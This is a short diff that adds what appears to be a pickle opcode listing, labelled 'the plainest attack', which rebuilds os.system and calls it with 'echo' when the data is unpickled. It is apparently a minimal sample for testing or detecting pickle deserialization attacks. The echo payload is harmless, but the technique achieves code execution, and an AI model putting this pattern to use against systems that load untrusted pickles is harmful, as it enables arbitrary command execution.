@@ -1,0 +1,10 @@
+# the plainest attack: call os.system("echo")
+PROTO 4
+FRAME 21
+SHORT_BINUNICODE os
+SHORT_BINUNICODE system
+STACK_GLOBAL
+SHORT_BINUNICODE echo
+TUPLE1
+REDUCE
+STOP
